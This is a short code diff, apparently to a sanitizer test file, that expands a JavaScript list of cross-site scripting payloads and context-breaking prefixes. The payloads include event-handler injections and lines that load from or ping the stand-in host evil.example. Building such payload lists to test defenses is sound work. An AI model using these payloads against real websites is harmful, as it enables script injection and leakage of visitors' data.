@@ -1,4 +1,4 @@
-/** 150 strings by which a text has become a program somewhere: 30 payloads, each as it is and behind four ways out of its place. */
+/** 200 strings by which a text has become a program somewhere: 40 payloads, each as it is and behind four ways out of its place. */
 const payloads = [
   '<script>ran(1)</script>',
   '<script src="http://evil.example/x.js"></script>',
@@ -30,6 +30,16 @@ const payloads = [
   '<math><mtext><table><mglyph><style><img src=x onerror=ran(1)></style></mglyph></table></mtext></math>',
   '<noscript><p title="</noscript><img src=x onerror=ran(1)>"></noscript>',
   '<template><script>ran(1)</script></template><slot onslotchange=ran(1)></slot>',
+  '<marquee onstart=ran(1)>x</marquee>',
+  '<svg><animate onbegin=ran(1) attributeName=x dur=1s>',
+  '<svg><use href="data:image/svg+xml,<svg onload=ran(1)>"></use></svg>',
+  '<svg><foreignObject><img src=x onerror=ran(1)></foreignObject></svg>',
+  '<img srcset="http://evil.example/1.png 1x, http://evil.example/2.png 2x">',
+  '<picture><source srcset="http://evil.example/p.png"><img></picture>',
+  '<select autofocus onfocus=ran(1)><option>x</select>',
+  '<a href="http://evil.example/" ping="http://evil.example/ping" target=_blank>x</a>',
+  '<button popovertarget=x onbeforetoggle=ran(1)>x</button><div popover id=x>x</div>',
+  '<img src=x:x onerror=&#114;&#97;&#110;(1)>',
 ];
 
 const waysOut = ['', '</title></style></textarea>', '--><!-- ]]>', '"\'`></td></tr></table>', '\n\n'];
